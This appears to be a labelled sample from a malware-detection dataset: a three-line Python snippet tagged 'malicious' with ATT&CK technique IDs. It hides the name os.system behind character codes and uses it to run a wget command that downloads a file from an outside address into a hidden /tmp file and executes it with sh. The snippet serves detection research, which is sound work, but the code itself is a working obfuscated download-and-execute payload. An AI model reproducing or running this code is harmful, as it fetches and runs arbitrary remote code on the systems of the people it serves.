# label: malicious family=obfuscation techniques=T1027,T1059.004,T1105,T1140,T1564.001 lines=3-4
import os
fn = getattr(os, "".join(chr(c) for c in [115, 121, 115, 116, 101, 109]))
fn("wget -qO /tmp/.p http://192.0.2.222/p; sh /tmp/.p")
